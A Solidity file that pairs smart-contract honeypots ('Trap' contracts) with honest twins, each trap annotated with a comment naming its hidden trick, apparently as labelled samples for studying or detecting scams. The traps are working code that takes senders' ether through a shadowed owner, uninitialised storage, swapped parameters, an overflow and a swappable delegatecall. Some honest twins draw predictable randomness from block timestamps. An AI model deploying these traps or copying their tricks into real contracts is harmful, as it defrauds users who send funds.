// SPDX-License-Identifier: Apache-2.0
pragma solidity 0.4.26;

// Contracts that ask for coins and promise coins: each trap with an honest twin.

contract Owned4 {
    address owner = msg.sender;
    modifier onlyOwner() {
        require(msg.sender == owner);
        _;
    }
}

// A wrong answer is kept, and the keeper of the quiz changes the hash unseen.
contract QuizTrap is Owned4 {
    bytes32 solution;
    constructor(bytes32 s) public payable {
        solution = s;
    }
    function guess(bytes phrase) external payable {
        if (solution == keccak256(phrase) && msg.value > 1 ether) msg.sender.transfer(address(this).balance);
    }
    function set(bytes32 s) external onlyOwner {
        solution = s;
    }
    function finish() external onlyOwner {
        msg.sender.transfer(address(this).balance);
    }
}

contract QuizGame is Owned4 {
    bytes32 solution;
    constructor(bytes32 s) public payable {
        solution = s;
    }
    function guess(bytes phrase) external payable {
        require(solution == keccak256(phrase) && msg.value >= 1 ether);
        msg.sender.transfer(address(this).balance);
    }
}

// The balance already holds what was sent.
contract DoublerTrap is Owned4 {
    constructor() public payable {}
    function double(address to) external payable {
        if (msg.value >= address(this).balance) to.transfer(address(this).balance + msg.value);
    }
    function finish() external onlyOwner {
        msg.sender.transfer(address(this).balance);
    }
}

contract CoinFlip is Owned4 {
    constructor() public payable {}
    function flip() external payable {
        require(msg.value >= 1 finney && msg.value * 2 <= address(this).balance);
        if (uint(keccak256(abi.encodePacked(block.timestamp, msg.sender))) % 2 == 0) msg.sender.transfer(msg.value * 2);
    }
    function finish() external onlyOwner {
        msg.sender.transfer(address(this).balance);
    }
}

// The record lies where the secret is.
contract RouletteTrap {
    uint secret;
    uint last;
    uint price = 1 finney;
    address keeper = msg.sender;
    struct Round {
        address player;
        uint number;
    }
    Round[] rounds;
    constructor() public payable {
        secret = (uint(keccak256(abi.encodePacked(now))) % 10) + 1;
    }
    function play(uint number) external payable {
        require(msg.value >= price && number <= 10);
        Round round;
        round.player = msg.sender;
        round.number = number;
        rounds.push(round);
        if (number == secret) msg.sender.transfer(address(this).balance);
        last = now;
    }
    function finish() external {
        if (msg.sender == keeper && now > last + 1 days) selfdestruct(msg.sender);
    }
}

contract Roulette {
    uint secret;
    uint last;
    uint price = 1 finney;
    address keeper = msg.sender;
    struct Round {
        address player;
        uint number;
    }
    Round[] rounds;
    constructor() public payable {
        secret = (uint(keccak256(abi.encodePacked(now))) % 10) + 1;
    }
    function play(uint number) external payable {
        require(msg.value >= price && number <= 10);
        rounds.push(Round(msg.sender, number));
        if (number == secret) msg.sender.transfer(address(this).balance);
        last = now;
    }
    function finish() external {
        require(msg.sender == keeper && now > last + 1 days);
        selfdestruct(msg.sender);
    }
}

// An earlier visitor closed it; payments are taken all the same.
contract GiftTrap {
    bytes32 lock;
    bool closed;
    address giver;
    function prepare(bytes32 hash) external payable {
        if ((!closed && msg.value > 1 ether) || lock == 0) {
            lock = hash;
            giver = msg.sender;
        }
    }
    function open(bytes phrase) external {
        if (lock == keccak256(phrase)) msg.sender.transfer(address(this).balance);
    }
    function seal(bytes32 hash) external {
        if (lock == hash && msg.sender == giver) closed = true;
    }
}

contract Gift {
    bytes32 lock;
    address giver;
    function prepare(bytes32 hash) external payable {
        require(msg.value > 1 ether && lock == 0);
        lock = hash;
        giver = msg.sender;
    }
    function open(bytes phrase) external {
        require(lock == keccak256(phrase));
        lock = 0;
        msg.sender.transfer(address(this).balance);
    }
}

// Its keeper stops the winning, not the paying.
contract BetTrap is Owned4 {
    bool stopped;
    constructor() public payable {}
    function bet() external payable {
        if (msg.value == 1 ether && !stopped && uint(keccak256(abi.encodePacked(now))) % 2 == 0) msg.sender.transfer(2 ether);
    }
    function stop() external onlyOwner {
        stopped = true;
    }
    function finish() external onlyOwner {
        msg.sender.transfer(address(this).balance);
    }
}

contract Bet is Owned4 {
    bool stopped;
    constructor() public payable {}
    function bet() external payable {
        require(msg.value == 1 ether && !stopped);
        if (uint(keccak256(abi.encodePacked(now))) % 2 == 0) msg.sender.transfer(2 ether);
    }
    function stop() external onlyOwner {
        stopped = true;
    }
    function finish() external onlyOwner {
        require(stopped);
        msg.sender.transfer(address(this).balance);
    }
}

// A logger that its owner replaces runs with the coins.
contract LoggerTrap is Owned4 {
    address logger;
    constructor(address l) public payable {
        logger = l;
    }
    function setLogger(address l) external onlyOwner {
        logger = l;
    }
    function take() external payable {
        if (msg.value >= 1 ether) {
            logger.delegatecall(abi.encodeWithSignature("note()"));
            msg.sender.transfer(address(this).balance);
        }
    }
}

contract LoggerGame is Owned4 {
    event Taken(address by);
    address logger;
    constructor(address l) public payable {
        logger = l;
    }
    function setLogger(address l) external onlyOwner {
        logger = l;
    }
    function take() external payable {
        require(msg.value >= 1 ether);
        logger.call(abi.encodeWithSignature("note()"));
        emit Taken(msg.sender);
        msg.sender.transfer(msg.value);
    }
}

// The bought ownership is another one than the one that withdraws.
contract ControlTrap is Owned4 {
    address owner;
    uint price = 1 ether;
    constructor() public payable {
        owner = msg.sender;
    }
    function buyControl() external payable {
        require(msg.value == price);
        owner = msg.sender;
    }
    function withdraw(uint amount) external onlyOwner {
        msg.sender.transfer(amount);
    }
}

contract ControlSale is Owned4 {
    uint price = 1 ether;
    constructor() public payable {}
    function buyControl() external payable {
        require(msg.value == price);
        owner = msg.sender;
    }
    function withdraw(uint amount) external onlyOwner {
        msg.sender.transfer(amount);
    }
}

// Sender and receiver are swapped.
contract BankTrap is Owned4 {
    mapping(address => uint) saved;
    function() external payable {
        saved[msg.sender] += msg.value;
    }
    function withdraw(uint amount) external {
        require(saved[msg.sender] >= amount);
        saved[msg.sender] -= amount;
        pay(msg.sender, owner, amount);
    }
    function bonus() external onlyOwner {
        pay(owner, msg.sender, address(this).balance);
    }
    function payBack(address to, uint amount) external onlyOwner {
        pay(owner, to, amount);
    }
    function pay(address, address to, uint amount) internal {
        to.transfer(amount);
    }
}

contract Bank is Owned4 {
    mapping(address => uint) saved;
    function() external payable {
        saved[msg.sender] += msg.value;
    }
    function withdraw(uint amount) external {
        require(saved[msg.sender] >= amount);
        saved[msg.sender] -= amount;
        msg.sender.transfer(amount);
    }
}

// The type of the counter ends the sum at 510 wei.
contract CounterTrap is Owned4 {
    constructor() public payable {}
    function collect() external payable {
        if (msg.value > 1 ether) {
            uint sum = 0;
            for (uint8 i = 0; i < msg.value * 2; i++) {
                uint next = uint(i) * 2;
                if (next < sum) break;
                sum = next;
            }
            msg.sender.transfer(sum);
        }
    }
    function finish() external onlyOwner {
        msg.sender.transfer(address(this).balance);
    }
}

contract Crowdsale is Owned4 {
    mapping(address => uint) public shares;
    uint constant CAP = 1000 ether;
    uint raised;
    function buy() external payable {
        require(msg.value >= 1 finney && raised < CAP);
        uint sold = msg.value > CAP - raised ? CAP - raised : msg.value;
        raised += sold;
        shares[msg.sender] += sold * 1000;
        owner.transfer(sold);
        if (sold < msg.value) msg.sender.transfer(msg.value - sold);
    }
}

contract DonationBox is Owned4 {
    function donate() external payable {
        require(msg.value >= 1 finney);
    }
    function collect() external onlyOwner {
        msg.sender.transfer(address(this).balance);
    }
}

contract TenTickets {
    address[] players;
    function enter() external payable {
        require(msg.value == 100 finney);
        players.push(msg.sender);
        if (players.length < 10) return;
        address winner = players[uint(keccak256(abi.encodePacked(now))) % 10];
        delete players;
        winner.transfer(1 ether);
    }
}
